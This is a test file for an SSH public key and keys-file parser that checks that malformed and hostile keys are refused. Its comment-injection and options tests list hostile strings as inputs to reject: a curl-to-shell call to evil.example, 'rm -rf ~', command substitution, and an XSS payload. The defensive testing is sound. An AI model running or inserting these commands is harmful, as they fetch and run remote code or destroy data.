// Parsing SSH public key lines and keys files: real keys from ssh-keygen, and hostile ones built by hand.
import { spawnSync } from 'node:child_process';
import { ed25519 } from '@noble/curves/ed25519.js';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  MAX_KEYS_PER_LOGIN,
  parseAuthorizedKeys,
  parseKeysFile,
  parseSshPublicKey,
  type SshKeyRejected,
  scanKeysFile,
} from '../../src/creds/ssh-keys.js';
import { type KeyPair, keygen, requireTools, scratchDir } from './tools.js';

let remove: () => void;
let ed: KeyPair;
let ed2: KeyPair;
let rsa: KeyPair;
let rsa1024: KeyPair;
let ecdsa: KeyPair;

it('runs against the real tools: Debian age and ssh-keygen (openssh-client)', () => requireTools());

describe('real and hand-made SSH keys', () => {
  beforeAll(() => {
    requireTools();
    const scratch = scratchDir();
    remove = scratch.remove;
    ed = keygen(scratch.dir, 'ed', 'ed25519', { comment: 'alice@laptop' });
    ed2 = keygen(scratch.dir, 'ed2', 'ed25519', { comment: 'alice@phone' });
    rsa = keygen(scratch.dir, 'rsa', 'rsa', { bits: 3072, comment: 'alice@desktop' });
    rsa1024 = keygen(scratch.dir, 'rsa1024', 'rsa', { bits: 1024 });
    ecdsa = keygen(scratch.dir, 'ecdsa', 'ecdsa');
  });

  afterAll(() => remove?.());

  const data = (line: string) => line.split(' ')[1] ?? '';
  const blobOf = (line: string) => Buffer.from(data(line), 'base64');
  const str = (s: string | Buffer) => {
    const b = typeof s === 'string' ? Buffer.from(s) : s;
    const len = Buffer.alloc(4);
    len.writeUInt32BE(b.length);
    return Buffer.concat([len, b]);
  };
  const line = (type: string, blob: Buffer, comment = '') =>
    `${type} ${blob.toString('base64')}${comment ? ` ${comment}` : ''}`;

  function rejected(text: string): SshKeyRejected {
    const r = parseSshPublicKey(text);
    if (r.ok) throw new Error(`expected ${JSON.stringify(text.slice(0, 60))} to be rejected`);
    return r;
  }

  describe('parseSshPublicKey', () => {
    it('reads ssh-keygen ed25519 and RSA lines, with the fingerprint ssh-keygen prints', () => {
      for (const [key, type, bits, comment] of [
        [ed, 'ssh-ed25519', 256, 'alice@laptop'],
        [rsa, 'ssh-rsa', 3072, 'alice@desktop'],
      ] as const) {
        const r = parseSshPublicKey(key.publicLine);
        expect(r.ok).toBe(true);
        if (!r.ok) continue;
        expect(r.key).toMatchObject({ type, bits, comment });
        expect(r.key.text).toBe(key.publicLine.split(' ').slice(0, 2).join(' '));
        expect(Buffer.from(r.key.blob)).toEqual(blobOf(key.publicLine));
        const printed = spawnSync('ssh-keygen', ['-l', '-E', 'sha256', '-f', `${key.path}.pub`], {
          encoding: 'utf8',
        });
        expect(printed.stdout.split(' ')[1]).toBe(r.key.fingerprint);
      }
    });

    it('accepts lines without a comment (as GitHub serves them), with CRLF, tabs and surrounding blanks', () => {
      const bare = ed.publicLine.split(' ').slice(0, 2).join(' ');
      for (const text of [bare, `${bare}\r\n`, `  ${bare}\t`, `${bare}\tsome comment`])
        expect(parseSshPublicKey(text).ok, JSON.stringify(text)).toBe(true);
    });

    it('refuses a key whose type inside the blob differs from the line', () => {
      const r = rejected(`ssh-ed25519 ${data(rsa.publicLine)}`);
      expect(r.reason).toBe('invalid');
      expect(r.message).toBe(
        'the key data is a ssh-rsa key, but the line says ssh-ed25519 (the type inside the key must match)',
      );
      expect(rejected(`ssh-rsa ${data(ed.publicLine)}`).message).toMatch(
        /is a ssh-ed25519 key, but the line says ssh-rsa/,
      );
    });

    it('refuses truncated or altered base64', () => {
      const d = data(ed.publicLine);
      expect(rejected(`ssh-ed25519 ${d.slice(0, -3)}`).message).toMatch(/not valid base64/);
      // Still valid base64 (a multiple of 4), but the key inside is cut short.
      expect(rejected(`ssh-ed25519 ${d.slice(0, 40)}`).message).toMatch(
        /claims 32 bytes but only \d+ remain/,
      );
      expect(rejected(`ssh-rsa ${data(rsa.publicLine).slice(0, 200)}`).message).toMatch(/malformed/);
      expect(rejected(`ssh-ed25519 ${d.replace(/.$/, '=')}`).message).toMatch(
        /not valid base64|claims 32 bytes but only 31 remain/,
      );
      // Non-canonical: the bits below the last byte, which decoders ignore, are not zero.
      const r = data(rsa.publicLine);
      expect(r).toMatch(/[AEIMQUYcgkosw048]=$/);
      const altered = r.replace(/.=$/, (m) => `${String.fromCharCode((m.charCodeAt(0) as number) + 1)}=`);
      expect(Buffer.from(altered, 'base64')).toEqual(Buffer.from(r, 'base64'));
      expect(rejected(`ssh-rsa ${altered}`).message).toMatch(/not valid base64/);
      expect(rejected(`ssh-ed25519 ${d}==`).message).toMatch(/not valid base64/);
      expect(rejected(`ssh-ed25519 ${d.replace(/[A-Za-z]/, '*')}`).message).toMatch(/not valid base64/);
      expect(rejected('ssh-ed25519').message).toMatch(/key data \(base64\) is missing/);
    });

    it('refuses trailing bytes, wrong lengths, and ed25519 points that are not usable', () => {
      const blob = blobOf(ed.publicLine);
      expect(rejected(line('ssh-ed25519', Buffer.concat([blob, Buffer.from([0])]))).message).toMatch(
        /1 unexpected trailing byte/,
      );
      expect(
        rejected(line('ssh-ed25519', Buffer.concat([str('ssh-ed25519'), str(Buffer.alloc(31, 7))]))).message,
      ).toMatch(/is 31 bytes; it must be 32/);
      const identity = Buffer.alloc(32);
      identity[0] = 1; // the neutral point: small order
      expect(
        rejected(line('ssh-ed25519', Buffer.concat([str('ssh-ed25519'), str(identity)]))).message,
      ).toMatch(/small-order/);
      const notOnCurve = Buffer.alloc(32, 0xff);
      notOnCurve[31] = 0x7f;
      expect(
        rejected(line('ssh-ed25519', Buffer.concat([str('ssh-ed25519'), str(notOnCurve)]))).message,
      ).toMatch(/not a valid curve point|small-order/);
    });

    it('refuses a 1024-bit RSA key from ssh-keygen', () => {
      const r = rejected(rsa1024.publicLine);
      expect(r.reason).toBe('invalid');
      expect(r.message).toMatch(/the RSA key is 1024 bits; at least 2048 bits are required/);
    });

    it('refuses RSA keys with non-canonical integers or bad exponents', () => {
      const b = blobOf(rsa.publicLine);
      // ssh-rsa blob: string "ssh-rsa" (11), mpint e (4 + 3), mpint n.
      const e = b.subarray(11, 18);
      const n = b.subarray(18);
      const padded = Buffer.concat([str('ssh-rsa'), str(Buffer.from([0, 1, 0, 1])), n]);
      expect(rejected(line('ssh-rsa', padded)).message).toMatch(/superfluous leading zero/);
      const even = Buffer.concat([str('ssh-rsa'), str(Buffer.from([1, 0, 0])), n]);
      expect(rejected(line('ssh-rsa', even)).message).toMatch(/exponent 65536 is not valid/);
      const negative = Buffer.concat([str('ssh-rsa'), e, str(Buffer.from([0x80, 1]))]);
      expect(rejected(line('ssh-rsa', negative)).message).toMatch(/negative/);
    });

    it('reports other key types as unsupported, saying what age can use', () => {
      const r = rejected(ecdsa.publicLine);
      expect(r).toEqual({
        ok: false,
        reason: 'unsupported-type',
        keyType: 'ecdsa-sha2-nistp256',
        message: 'unsupported key type ecdsa-sha2-nistp256: age can encrypt to ssh-ed25519 and ssh-rsa keys',
      });
      const sk = Buffer.concat([str('sk-ssh-ed25519@openssh.com'), str(Buffer.alloc(32, 9)), str('ssh:')]);
      for (const type of ['sk-ssh-ed25519@openssh.com', 'sk-ecdsa-sha2-nistp256@openssh.com', 'ssh-dss']) {
        const u = rejected(line(type, sk, 'yubikey'));
        expect(u.reason).toBe('unsupported-type');
        expect(u.message).toBe(
          `unsupported key type ${type}: age can encrypt to ssh-ed25519 and ssh-rsa keys`,
        );
      }
      expect(rejected(`ssh-ed25519-cert-v01@openssh.com ${data(ed.publicLine)}`).reason).toBe(
        'unsupported-type',
      );
    });

    it('refuses comments that look like injection, naming the character', () => {
      const bare = ed.publicLine.split(' ').slice(0, 2).join(' ');
      const cases: [string, string][] = [
        ['$(curl -s evil.example | sh)', '"$"'],
        ['`id`', '"`"'],
        ['alice; rm -rf ~', '";"'],
        ['<img src=x onerror=alert(1)>', '"<"'],
        ['alice && reboot', '"&"'],
        ['\u001b[31mroot\u001b[0m', 'U+001B'],
        ['alice\u202Etxt.exe', 'U+202E'],
        ['nul\u0000byte', 'U+0000'],
      ];
      for (const [comment, shown] of cases) {
        const r = rejected(`${bare} ${comment}`);
        expect(r.reason).toBe('invalid');
        expect(r.message, comment).toContain(
          `the key comment contains ${shown}, which is refused in key comments`,
        );
      }
      expect(rejected(`${bare} alice\nssh-rsa AAAA mallory`).message).toMatch(/single line/);
      expect(rejected(`${bare} ${'x'.repeat(300)}`).message).toMatch(/comment is 300 characters/);
      expect(parseSshPublicKey(`${bare} Alice O'Neil (work) alice+gh@example.com #1`).ok).toBe(true);
    });

    it('refuses authorized_keys options and things that are not key lines', () => {
      const bare = ed.publicLine.split(' ').slice(0, 2).join(' ');
      expect(rejected(`command="curl evil|sh" ${bare}`).message).toMatch(
        /options before the key are not supported/,
      );
      expect(rejected(`no-pty ${bare}`).message).toMatch(/options before the key are not supported/);
      expect(rejected('').message).toMatch(/empty/);
      expect(rejected('-----BEGIN OPENSSH PRIVATE KEY-----').message).toMatch(
        /does not start with an SSH key type/,
      );
      expect(rejected(`ssh-ed25519 ${'A'.repeat(9000)}`).message).toMatch(/at most 8192/);
    });

    it('never throws, whatever the line', () => {
      fc.assert(
        fc.property(
          fc.oneof(
            fc.string(),
            fc.string().map((s) => `ssh-ed25519 ${s}`),
            fc.uint8Array({ maxLength: 80 }).map((b) => `ssh-rsa ${Buffer.from(b).toString('base64')}`),
            fc.uint8Array({ maxLength: 80 }).map((b) => `ssh-ed25519 ${Buffer.from(b).toString('base64')} c`),
          ),
          (s) => {
            const r = parseSshPublicKey(s);
            expect(typeof r.ok).toBe('boolean');
          },
        ),
        { numRuns: 500 },
      );
    });
  });

  describe('parseAuthorizedKeys', () => {
    it('reads what https://github.com/LOGIN.keys serves, line by line', () => {
      const text = `${ed.publicLine.split(' ').slice(0, 2).join(' ')}\n\n# a comment\n${ecdsa.publicLine}\r\n${rsa.publicLine}\n`;
      const lines = parseAuthorizedKeys(text);
      expect(lines.map((l) => [l.line, l.result.ok])).toEqual([
        [1, true],
        [4, false],
        [5, true],
      ]);
      expect(lines[1]?.result).toMatchObject({ reason: 'unsupported-type' });
    });
  });

  describe('parseKeysFile', () => {
    it('reads lists and multi-line strings of key lines, by case-insensitive login', () => {
      const text = [
        'Alice:',
        `  - ${ed.publicLine}`,
        `  - "${rsa.publicLine}"`,
        'bob: |',
        `  ${ed2.publicLine}`,
        '',
        `  ${ecdsa.publicLine}`,
        '',
      ].join('\n');
      const file = parseKeysFile(text);
      expect(file.errors).toEqual([]);
      expect(file.logins.get('alice')?.login).toBe('Alice');
      expect(file.logins.get('alice')?.keys.map((k) => k.type)).toEqual(['ssh-ed25519', 'ssh-rsa']);
      expect(file.logins.get('bob')?.keys.map((k) => k.comment)).toEqual(['alice@phone']);
      expect(file.skipped).toEqual([
        expect.objectContaining({
          login: 'bob',
          keyType: 'ecdsa-sha2-nistp256',
          message:
            'bob: line 3 of the keys: unsupported key type ecdsa-sha2-nistp256: age can encrypt to ssh-ed25519 and ssh-rsa keys',
        }),
      ]);
    });

    it('names the login and the line of every problem', () => {
      const text = [
        'alice:',
        `  - ${ed.publicLine}`,
        'bob:',
        `  - ${rsa1024.publicLine}`,
        `  - ssh-ed25519 ${data(rsa.publicLine)}`,
        'carol:',
        `  - ${ecdsa.publicLine}`,
        'dave: 42x',
        'erin:',
        '  - [nested]',
        'frank:',
        `  - ${ed.publicLine}`,
        `  - ${ed.publicLine} again`,
        '"-not-a-login": []',
        'ALICE: []',
        '',
      ].join('\n');
      const file = parseKeysFile(text);
      const problems = file.errors.map((e) => `${e.line}:${e.column} ${e.message}`);
      expect(problems).toEqual([
        '4:5 bob: key 1: the RSA key is 1024 bits; at least 2048 bits are required (use ssh-ed25519, or ssh-keygen -t rsa -b 3072)',
        '5:5 bob: key 2: the key data is a ssh-rsa key, but the line says ssh-ed25519 (the type inside the key must match)',
        '7:3 carol: has no key age can encrypt to (age can encrypt to ssh-ed25519 and ssh-rsa keys; add one with ssh-keygen -t ed25519)',
        '8:7 dave: line 1 of the keys: the line does not start with an SSH key type (found "42x")',
        '10:5 erin: key 1 must be a key line (a string)',
        '13:5 frank: key 2: the same key is listed twice',
        '14:1 "-not-a-login" is not a GitHub login (letters, digits and single hyphens, at most 39)',
        '15:8 ALICE: listed twice (also as alice; logins are case-insensitive)',
      ]);
      expect(file.errors.filter((e) => e.login === 'bob')).toHaveLength(2);
    });

    it('refuses a file that is not a map of logins, and hostile YAML', () => {
      expect(parseKeysFile('- a\n- b\n').errors[0]?.message).toMatch(/YAML map of GitHub login/);
      expect(parseKeysFile('').errors[0]?.message).toMatch(/empty/);
      expect(parseKeysFile(`a: &k\n  - ${ed.publicLine}\nb: *k\n`).errors.length).toBeGreaterThan(0);
    });

    it('caps the keys per login', () => {
      const many = Array.from({ length: MAX_KEYS_PER_LOGIN + 1 }, (_, i) => keygenLine(i));
      const file = parseKeysFile(`alice:\n${many.map((l) => `  - ${l}`).join('\n')}\n`);
      expect(file.errors.map((e) => e.message)).toEqual([
        `alice: has ${MAX_KEYS_PER_LOGIN + 1} keys; at most ${MAX_KEYS_PER_LOGIN} are allowed per login`,
      ]);
    });
  });

  describe('scanKeysFile', () => {
    // Well-formed ed25519 key lines whose 32 bytes are no key to encrypt to: y = 2 is on no point of the
    // curve; y = 1 is the neutral point (small order).
    const edLine = (key: Buffer, comment = '') =>
      line('ssh-ed25519', Buffer.concat([str('ssh-ed25519'), str(key)]), comment);
    const offCurve = () => {
      const b = Buffer.alloc(32);
      b[0] = 2;
      return edLine(b, 'off@curve');
    };
    const neutral = () => {
      const b = Buffer.alloc(32);
      b[0] = 1;
      return edLine(b);
    };

    it('finds every error but the curve point check at once; keysOf makes that check, per login', () => {
      const text = [
        'alice:',
        `  - ${ed.publicLine}`,
        'Bob:',
        `  - ${rsa.publicLine}`,
        `  - ${offCurve()}`,
        'carol: |',
        `  ${ed2.publicLine}`,
        `  ${neutral()}`,
        '',
      ].join('\n');
      const scan = scanKeysFile(text);
      expect(scan.errors).toEqual([]);
      expect([...scan.logins]).toEqual([
        ['alice', 'alice'],
        ['bob', 'Bob'],
        ['carol', 'carol'],
      ]);
      expect(scan.keysOf('ALICE')).toEqual({
        ok: true,
        login: 'alice',
        keys: [expect.objectContaining({ type: 'ssh-ed25519', comment: 'alice@laptop' })],
      });
      // A login with one bad key among good ones: none of its keys is given, and the bad one is named.
      expect(scan.keysOf('bob')).toEqual({
        ok: false,
        login: 'Bob',
        errors: [
          {
            line: 5,
            column: 5,
            login: 'Bob',
            message: 'Bob: key 2: the ed25519 public key is not a valid curve point',
          },
        ],
      });
      expect(scan.keysOf('carol')).toEqual({
        ok: false,
        login: 'carol',
        errors: [
          expect.objectContaining({
            line: 6,
            login: 'carol',
            message: 'carol: line 2 of the keys: the ed25519 public key is a small-order point',
          }),
        ],
      });
      expect(scan.keysOf('dave')).toBeUndefined();
      // Once per login: the same answer, not a new check.
      expect(scan.keysOf('Bob')).toBe(scan.keysOf('bob'));
      // parseKeysFile makes every check at once, with the same messages.
      expect(parseKeysFile(text).errors.map((e) => `${e.line}:${e.column} ${e.message}`)).toEqual([
        '5:5 Bob: key 2: the ed25519 public key is not a valid curve point',
        '6:8 carol: line 2 of the keys: the ed25519 public key is a small-order point',
      ]);
    });

    it('reports what parseKeysFile reports, but for the curve point checks', () => {
      const lines = [
        `  - ${ed.publicLine}`,
        `  - ${rsa1024.publicLine}`,
        `  - ssh-ed25519 ${data(rsa.publicLine)}`,
        `  - ${ed.publicLine} again`,
        `  - ${offCurve()}`,
        `  - ssh-ed25519 ${data(ed.publicLine).slice(0, -4)}`,
        `  - ${ed.publicLine.replace('alice@laptop', 'a$b')}`,
        `  - ${ecdsa.publicLine}`,
      ];
      // Every subset of these lines, under one login and in a list and a string form.
      fc.assert(
        fc.property(fc.subarray(lines, { minLength: 0 }), fc.boolean(), (picked, asString) => {
          const text = asString
            ? `erin: |\n${picked.map((l) => `  ${l.slice(4)}`).join('\n')}\n`
            : `erin:${picked.length === 0 ? ' []' : `\n${picked.join('\n')}`}\n`;
          const full = parseKeysFile(text);
          const scan = scanKeysFile(text);
          const checked = scan.keysOf('erin');
          const lazy = [...scan.errors, ...(checked && !checked.ok ? checked.errors : [])];
          const key = (e: { line: number; column: number; message: string }) =>
            `${e.line}:${e.column} ${e.message}`;
          expect(lazy.map(key).sort()).toEqual(full.errors.map(key).sort());
          expect(scan.skipped).toEqual(full.skipped);
          // The file is refused, at once or when erin's keys are used, exactly when parseKeysFile refuses it.
          expect(scan.errors.length > 0 || checked?.ok === false).toBe(full.errors.length > 0);
          if (full.errors.length === 0)
            expect(checked).toEqual({ ok: true, login: 'erin', keys: full.logins.get('erin')?.keys });
        }),
        { numRuns: 60 },
      );
    });
  });

  /** Distinct valid ed25519 key lines without running ssh-keygen 33 times. */
  function keygenLine(i: number): string {
    const pub = ed25519.getPublicKey(new Uint8Array(32).fill(i + 1));
    return line('ssh-ed25519', Buffer.concat([str('ssh-ed25519'), str(Buffer.from(pub))]), `k${i}`);
  }
});
